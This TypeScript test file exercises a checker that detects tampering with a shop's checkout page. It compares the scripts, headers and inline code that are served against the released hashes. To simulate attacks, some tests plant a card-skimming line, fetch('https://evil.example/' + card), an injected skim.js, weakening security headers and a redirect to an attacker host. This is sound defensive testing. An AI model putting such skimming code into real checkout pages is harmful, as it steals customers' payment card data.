import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { RequestListener } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { brotliCompressSync } from "node:zlib";
import { pino } from "pino";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { pageTable } from "../../app/pages.ts";
import { onDatabases } from "../../tests/support/databases.ts";
import type { TestDatabase } from "../../tests/support/databases.ts";
import { startProvider } from "../../tests/support/provider.ts";
import type { Provider } from "../../tests/support/provider.ts";
import { testShop } from "../../tests/support/shop.ts";
import type { TestShop } from "../../tests/support/shop.ts";
import { pageServer } from "../http/page-server.ts";
import { readPages } from "../http/pages.ts";
import { paymentPageHeaders } from "../http/payment-page.ts";
import { createMetrics } from "../http/metrics.ts";
import { createPaymentPageGateway, sha256 } from "../providers/payment-page.ts";
import { createCheckPaymentPage, lastCheck, lastGoodCheck } from "./payment-page.ts";
import { readFigures } from "../http/figures.ts";
import { createCorrectTimes } from "../jobs/correct-times.ts";

const DAY = 24 * 60 * 60 * 1000;
const WEEK = 7 * DAY;
const PROVIDER_SCRIPT = "/sandbox/paystack/v1/inline.js";
const SCRIPT = "/assets/entry-1a2b.js";
const LATER_SCRIPT = "/assets/wake-3c4d.js";
const HTML = `<!DOCTYPE html><title>Checkout</title><script type="module" async src="${SCRIPT}"></script>
  <div data-island="checkout" data-props="{&quot;scriptUrl&quot;:&quot;${PROVIDER_SCRIPT}&quot;}"></div>`;
const security = {
  publicUrl: "http://localhost:3000",
  paystack: { scriptUrl: PROVIDER_SCRIPT },
  ...pageTable,
};

onDatabases("looking at the payment page on $name", ({ open }) => {
  let database: TestDatabase;
  let shop: TestShop;
  let folder: string;
  let front: RequestListener;
  let server: Provider;
  let providerCode: string;
  let logged: { level: number; msg: string }[];
  beforeAll(async () => {
    database = await open();
  });
  afterAll(() => database.close());
  beforeEach(async () => {
    await database.db.deleteFrom("payment_page_checks").execute();
    await database.db.deleteFrom("jobs").execute();
    logged = [];
    const log = { write: (line: string) => void logged.push(JSON.parse(line)) };
    shop = testShop(database.db, pino({ level: "info" }, log));
    folder = mkdtempSync(join(tmpdir(), "hazelzuri-"));
    mkdirSync(join(folder, "assets"));
    mkdirSync(join(folder, "checkout"));
    write("checkout/index.html", HTML);
    write(SCRIPT, "import('./wake-3c4d.js')");
    write(LATER_SCRIPT, "export const wakeAll = 1");
    providerCode = "PaystackPop = {}";
    serve();
    server = await startProvider((request, response) => front(request, response));
  });
  afterEach(async () => {
    await server.close();
    rmSync(folder, { recursive: true });
  });

  /** Writes what the build would: the file, and its compressed version, which is sent. */
  const write = (name: string, text: string) => {
    writeFileSync(join(folder, name), text);
    writeFileSync(join(folder, `${name}.br`), brotliCompressSync(text));
  };
  /** Restarts the shop, which reads its files once at start. `between` acts as a proxy in front of it. */
  const serve = (between: RequestListener = () => {}) => {
    const files = readPages(folder, security, security.publicUrl);
    const pages = pageServer((path) => files.get(path));
    front = (request, response) => {
      between(request, response);
      if (response.writableEnded) return;
      if (request.url === PROVIDER_SCRIPT) return response.end(providerCode);
      pages(request, response, () => response.writeHead(404).end());
    };
  };
  const hashOf = (name: string) => sha256(readFileSync(join(folder, name)));
  /** The check of a process whose first round, at its start, is over. */
  const process = async (release = "1a2b3c", timeoutMs = 5_000) => {
    const files = {
      [SCRIPT]: released[SCRIPT] ?? "",
      [LATER_SCRIPT]: released[LATER_SCRIPT] ?? "",
    };
    const gateway = createPaymentPageGateway({
      origin: server.url,
      providerScript: server.url + PROVIDER_SCRIPT,
      timeoutMs,
    });
    const paymentPage = { release, headers: paymentPageHeaders(security), files, gateway };
    const check = createCheckPaymentPage({ ...shop.ports, paymentPage });
    expect(await check()).toBe("waiting");
    return check;
  };
  let released: Record<string, string>;
  beforeEach(() => {
    released = { [SCRIPT]: hashOf(SCRIPT), [LATER_SCRIPT]: hashOf(LATER_SCRIPT) };
  });
  const later = (ms: number) => {
    shop.world.now = new Date(shop.world.now.getTime() + ms);
  };
  const newest = () => lastCheck(database.db);
  const differences = async () => (await newest())?.detail.differences;
  const count = async () =>
    (await database.db.selectFrom("payment_page_checks").select("key").execute()).length;

  test("what was released is found to be the same, once a week", async () => {
    const check = await process();
    expect(await check()).toBe("same");
    const at = shop.world.now.toISOString();
    expect(await newest()).toEqual({
      release: "1a2b3c",
      outcome: "same",
      detail: {},
      providerScript: sha256(providerCode),
      at,
    });
    expect(await lastGoodCheck(database.db)).toBe(at);
    later(WEEK - 1);
    expect(await check()).toBe("idle");
    later(1);
    expect(await check()).toBe("same");
    expect(await count()).toBe(2);
  });

  test("every script is looked at as it is served: an altered one is named", async () => {
    // This has no effect on a running shop, which serves its files from memory.
    write(LATER_SCRIPT, "fetch('https://evil.example/' + card)");
    const check = await process();
    expect(await check()).toBe("same");
    serve();
    later(WEEK);
    expect(await check()).toBe("changed");
    expect(await differences()).toEqual([`file ${LATER_SCRIPT}: ${hashOf(LATER_SCRIPT)}`]);
    const errors = logged.filter(({ level }) => level === 50);
    expect(errors.map(({ msg }) => msg)).toEqual(["The payment page is not the release's"]);
  });

  test("a script that the page was given is named, and so is one that is gone", async () => {
    write(
      "checkout/index.html",
      HTML.replace("<div", "<script src='/assets/skim.js'></script><div"),
    );
    write("assets/skim.js", "1");
    rmSync(join(folder, LATER_SCRIPT));
    rmSync(join(folder, `${LATER_SCRIPT}.br`));
    serve();
    expect(await (await process())()).toBe("changed");
    expect(await differences()).toEqual([
      "script /assets/skim.js",
      `file ${LATER_SCRIPT}: status 404`,
    ]);
  });

  test.each([
    ["Content-Security-Policy", "script-src *"],
    ["Permissions-Policy", "payment=*"],
    ["Refresh", "0;url=https://evil.example"],
    ["Access-Control-Allow-Origin", "*"],
  ])("a proxy's own %s is noticed", async (name, value) => {
    serve(({ url }, response) => {
      if (url !== "/checkout") return;
      const writeHead = response.writeHead.bind(response);
      const adding = (status: number, headers: string[]) =>
        writeHead(status, [...headers, name, value]);
      response.writeHead = adding as typeof response.writeHead;
    });
    expect(await (await process())()).toBe("changed");
    expect(await differences()).toEqual([
      expect.stringMatching(new RegExp(`^header ${name.toLowerCase()}: `)),
    ]);
  });

  test("a page that leads elsewhere is changed, not away", async () => {
    serve((_request, response) => {
      response.writeHead(302, { Location: "https://evil.example/checkout" }).end();
    });
    expect(await (await process())()).toBe("changed");
    expect(await differences()).toContain("status 302");
    expect(server.requests.every(({ headers }) => headers.host === new URL(server.url).host)).toBe(
      true,
    );
  });

  test("a shop out of reach is a result of its own, asked again the next day", async () => {
    serve((_request, response) => void response.writeHead(503).end());
    const check = await process();
    expect(await check()).toBe("unreachable");
    expect((await newest())?.detail).toEqual({ reason: "status 503" });
    expect(await lastGoodCheck(database.db)).toBeUndefined();
    expect(await check()).toBe("idle");
    serve();
    later(DAY);
    expect(await check()).toBe("same");
  });

  test("a shop that does not answer is not waited for", async () => {
    front = () => {};
    expect(await (await process("1a2b3c", 50))()).toBe("unreachable");
    expect((await newest())?.detail).toEqual({ reason: "TimeoutError" });
  });

  test("a changed page is looked at every day, until it is the release's again", async () => {
    write(SCRIPT, "skim()");
    serve();
    const check = await process();
    for (let day = 0; day < 3; day++) {
      expect(await check()).toBe("changed");
      later(DAY);
    }
    write(SCRIPT, "import('./wake-3c4d.js')");
    serve();
    expect(await check()).toBe("same");
  });

  test("an inline script is the policy's, or a difference", async () => {
    const page = (code: string) => HTML.replace("<div", `<script>${code}</script><div`);
    write("checkout/index.html", page(security.inlineScripts[0] ?? ""));
    serve();
    const check = await process();
    expect(await check()).toBe("same");
    write("checkout/index.html", page("skim()"));
    serve();
    later(WEEK);
    expect(await check()).toBe("changed");
    expect(await differences()).toEqual([`script inline ${sha256("skim()")}`]);
  });

  test("of several processes one looks", async () => {
    const processes = await Promise.all(Array.from({ length: 6 }, () => process()));
    const results = await Promise.all(processes.map((check) => check()));
    expect(results.toSorted()).toEqual([...Array(5).fill("idle"), "same"]);
    expect(await count()).toBe(1);
  });

  test("a new release does not wait for the old one's week", async () => {
    expect(await (await process())()).toBe("same");
    expect(await (await process("4d5e6f"))()).toBe("same");
  });

  test("a clock that was put back puts nothing off", async () => {
    const check = await process();
    await check();
    later(-9 * DAY);
    await createCorrectTimes(shop.ports)();
    expect(await check()).toBe("same");
  });

  test("the card provider's new script is told of, and is no fault", async () => {
    const check = await process();
    await check();
    providerCode = "PaystackPop = { version: 2 }";
    later(WEEK);
    expect(await check()).toBe("same");
    expect(await newest()).toMatchObject({ providerScript: sha256(providerCode) });
    const warnings = logged.filter(({ level }) => level === 40).map(({ msg }) => msg);
    expect(warnings).toEqual(["The card provider's script has changed"]);
  });

  test("development has nothing to compare with", async () => {
    expect(await createCheckPaymentPage(shop.ports)()).toBe("off");
  });

  test("the metrics tell how the last look ended, and how old the last good one is", async () => {
    const text = () => createMetrics(".").text(() => readFigures(database.db, shop.world.now));
    expect(await text()).not.toContain("shop_payment_page");
    const check = await process();
    await check();
    write(SCRIPT, "skim()");
    serve();
    later(WEEK);
    await check();
    const told = await text();
    expect(told).toContain('shop_payment_page{outcome="changed"} 1\n');
    expect(told).toContain('shop_payment_page{outcome="same"} 0\n');
    expect(told).toContain("shop_payment_page_seen_good_seconds 604800\n");
  });
});
